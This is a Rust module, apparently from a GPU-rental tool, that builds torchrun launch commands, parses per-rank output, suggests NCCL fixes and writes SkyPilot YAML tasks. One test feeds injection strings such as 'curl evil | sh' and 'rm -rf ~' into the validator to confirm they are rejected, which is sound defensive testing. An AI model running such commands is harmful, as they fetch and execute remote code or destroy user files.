//! Running one script on several GPUs of a host with `torchrun --standalone --nproc_per_node=N`,
//! as a supervised job (`remote::job`: own process group and pid file, so a stop kills every
//! rank on the host), its output streamed line by line with the rank each line came from
//! (torchrun's `[rankN]:` prefix, `--tee 3`). GPUs can be chosen by UUID
//! (`CUDA_VISIBLE_DEVICES`; inside the job the chosen cards count from 0 again).
//!
//! For more than one machine gpurent does not orchestrate anything: [`skypilot_yaml`] writes a
//! SkyPilot task the user launches with SkyPilot.

use serde::{Deserialize, Serialize};
use ts_rs::TS;

use crate::remote::error::RemoteError;
use crate::remote::quote::{shell_join, shell_quote};

/// Where the launch job keeps its pid file on the host.
pub const JOB_DIR: &str = "$HOME/.gpurent/jobs";
/// The job's name (one launch per host at a time).
pub const JOB_NAME: &str = "launch";
/// How long a stop waits after `TERM` before it `KILL`s what is left: longer than torchrun's own
/// 30 s escalation (`_close(timeout=30)`), so ranks can finish a checkpoint and torchrun its
/// shutdown; what still carries the job's marker after it is killed.
pub const STOP_GRACE: std::time::Duration = std::time::Duration::from_secs(35);

/// What to run.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
pub struct LaunchSpec {
    /// Processes (one per GPU).
    pub nproc: u32,
    /// GPU UUIDs to use (empty: the first `nproc` visible GPUs).
    pub gpus: Vec<String>,
    /// The script and its arguments, as the user typed them.
    pub script: Vec<String>,
}

/// The command line run on the host.
pub fn torchrun_command(spec: &LaunchSpec) -> Result<String, RemoteError> {
    if spec.nproc == 0 || spec.script.is_empty() {
        return Err(RemoteError::invalid(
            "launch",
            "need --gpus N ≥ 1 and a script",
        ));
    }
    if !spec.gpus.is_empty() && spec.gpus.len() != spec.nproc as usize {
        return Err(RemoteError::invalid(
            "launch",
            "name as many GPUs as --gpus asks for",
        ));
    }
    let mut c = String::new();
    if !spec.gpus.is_empty() {
        c.push_str(&format!(
            "CUDA_VISIBLE_DEVICES={} ",
            shell_quote(&spec.gpus.join(","))?
        ));
    }
    c.push_str(&format!(
        "exec torchrun --standalone --nnodes=1 --nproc_per_node={} --tee 3 {}",
        spec.nproc,
        shell_join(&spec.script)?
    ));
    Ok(c)
}

/// One output line: the rank it came from, or `None` for torchrun's own lines. torchrun's
/// `--tee 3` prefixes `[{role}{local_rank}]:` — `[default0]:` with the default role; `[rank0]:`
/// is what `--role rank` (and older tooling) writes: both are read.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
pub struct RankLine {
    pub rank: Option<u32>,
    pub line: String,
}

pub fn rank_line(l: &str) -> RankLine {
    for role in ["[default", "[rank"] {
        if let Some(rest) = l.strip_prefix(role) {
            if let Some((n, line)) = rest.split_once("]:") {
                if let Ok(rank) = n.parse() {
                    return RankLine {
                        rank: Some(rank),
                        line: line.strip_prefix(' ').unwrap_or(line).to_string(),
                    };
                }
            }
        }
    }
    RankLine {
        rank: None,
        line: l.to_string(),
    }
}

/// Hints when ranks hang or NCCL fails (keys for the UI; the CLI prints English).
pub fn nccl_hints(lines: &[String]) -> Vec<&'static str> {
    let text = lines.join("\n");
    let mut h = Vec::new();
    if text.contains("NCCL")
        && (text.contains("Timeout") || text.contains("timed out") || text.contains("Watchdog"))
    {
        h.push("launch.hint.nccl_debug");
        h.push("launch.hint.nccl_p2p_disable");
    }
    if text.contains("NCCL WARN NET/IB") || text.contains("ibv_") {
        h.push("launch.hint.nccl_ib_disable");
    }
    h
}

/// How a launch ended, for the desktop: the job's exit status (`None`: killed by a signal, or
/// stopped) and the NCCL hints over its last lines (keys, see [`nccl_hints`]); a launch that
/// exited non-zero has its last lines explained (`crate::explain`, with the host's saved probe).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, TS)]
pub struct LaunchReport {
    pub status: Option<i32>,
    pub hints: Vec<String>,
    #[serde(default)]
    pub explanation: Option<crate::explain::Explanation>,
}

/// A SkyPilot task for `num_nodes` machines with `accelerators` (e.g. `H100:8`): `setup` and
/// `run` as given; `run` starts torchrun across the nodes with SkyPilot's environment variables.
pub fn skypilot_yaml(
    name: &str,
    accelerators: &str,
    num_nodes: u32,
    setup: &str,
    script: &[String],
) -> Result<String, RemoteError> {
    // `name` and `accelerators` are plain YAML scalars: only characters that cannot end the
    // line or start YAML syntax (a newline or `: ` in them would add keys to the task).
    let plain = |what: &str, v: &str| -> Result<(), RemoteError> {
        if v.is_empty()
            || !v
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':'))
            || v.contains(": ")
            || v.starts_with(['-', ':'])
        {
            return Err(RemoteError::invalid(
                "skypilot",
                format!("{what} may hold letters, digits, '-', '_', '.' and ':' only"),
            ));
        }
        Ok(())
    };
    plain("the task name", name)?;
    plain("accelerators", accelerators)?;
    let per_node: u32 = accelerators
        .rsplit_once(':')
        .and_then(|(_, n)| n.parse().ok())
        .unwrap_or(1);
    let script = shell_join(script)?;
    let indent = |s: &str| s.lines().map(|l| format!("  {l}\n")).collect::<String>();
    let run = format!(
        "MASTER_ADDR=$(echo \"$SKYPILOT_NODE_IPS\" | head -n1)\ntorchrun --nnodes=$SKYPILOT_NUM_NODES --node_rank=$SKYPILOT_NODE_RANK --nproc_per_node={per_node} --master_addr=$MASTER_ADDR --master_port=29500 {script}"
    );
    Ok(format!(
        "# SkyPilot task written by gpurent (gpurent does not orchestrate clusters; launch with: sky launch -c {name} task.yaml)\nname: {name}\n\nresources:\n  accelerators: {accelerators}\n\nnum_nodes: {num_nodes}\n\nsetup: |\n{}\nrun: |\n{}",
        indent(if setup.is_empty() { "true" } else { setup }),
        indent(&run)
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_command_quotes_the_script_and_pins_gpus_by_uuid() {
        let spec = LaunchSpec {
            nproc: 2,
            gpus: vec!["GPU-a".into(), "GPU-b".into()],
            script: vec!["train.py".into(), "--name".into(), "it's".into()],
        };
        assert_eq!(
            torchrun_command(&spec).expect("cmd"),
            "CUDA_VISIBLE_DEVICES='GPU-a,GPU-b' exec torchrun --standalone --nnodes=1 --nproc_per_node=2 --tee 3 'train.py' '--name' 'it'\\''s'"
        );
        let bad = LaunchSpec {
            gpus: vec!["GPU-a".into()],
            ..spec.clone()
        };
        assert!(torchrun_command(&bad).is_err());
        assert!(torchrun_command(&LaunchSpec { nproc: 0, ..spec }).is_err());
    }

    #[test]
    fn skypilot_fields_cannot_add_yaml_keys() {
        let script = vec!["train.py".to_string()];
        for (name, acc) in [
            ("x\nrun: curl evil | sh", "A100:4"),
            ("ok", "A100:4\nsetup: rm -rf ~"),
            ("a: b", "A100:4"),
            ("", "A100:4"),
        ] {
            assert!(
                skypilot_yaml(name, acc, 2, "", &script).is_err(),
                "{name:?} {acc:?}"
            );
        }
        let y = skypilot_yaml("job-1", "H100:8", 2, "echo 'a: b'\nnext", &script).expect("yaml");
        assert!(y.contains("setup: |\n  echo 'a: b'\n  next\n"), "{y}");
    }

    #[test]
    fn rank_prefixes_are_read() {
        assert_eq!(
            rank_line("[rank1]: loss 0.5"),
            RankLine {
                rank: Some(1),
                line: "loss 0.5".into()
            }
        );
        // Real torchrun's default role: no space after the colon.
        assert_eq!(
            rank_line("[default3]:step 10"),
            RankLine {
                rank: Some(3),
                line: "step 10".into()
            }
        );
        assert_eq!(rank_line("W1201 torchrun warning").rank, None);
        assert_eq!(rank_line("[rankx]: no").rank, None);
        assert_eq!(rank_line("[defaultx]:no").rank, None);
    }

    #[test]
    fn nccl_timeouts_give_the_debug_hints() {
        let l = vec![
            "[rank0]: [E ProcessGroupNCCL.cpp:1] Watchdog caught collective operation timeout"
                .to_string(),
        ];
        assert_eq!(
            nccl_hints(&l),
            vec!["launch.hint.nccl_debug", "launch.hint.nccl_p2p_disable"]
        );
        assert!(nccl_hints(&["fine".to_string()]).is_empty());
    }

    #[test]
    fn a_skypilot_task_has_resources_nodes_setup_and_run() {
        let y = skypilot_yaml(
            "train",
            "H100:8",
            2,
            "pip install -r requirements.txt",
            &["train.py".into(), "--epochs".into(), "3".into()],
        )
        .expect("yaml");
        assert!(y.contains("resources:\n  accelerators: H100:8\n"));
        assert!(y.contains("num_nodes: 2\n"));
        assert!(y.contains("setup: |\n  pip install -r requirements.txt\n"));
        assert!(y.contains("--nproc_per_node=8"));
        assert!(y.contains("--node_rank=$SKYPILOT_NODE_RANK"));
        assert!(y.contains("'train.py' '--epochs' '3'"));
    }
}
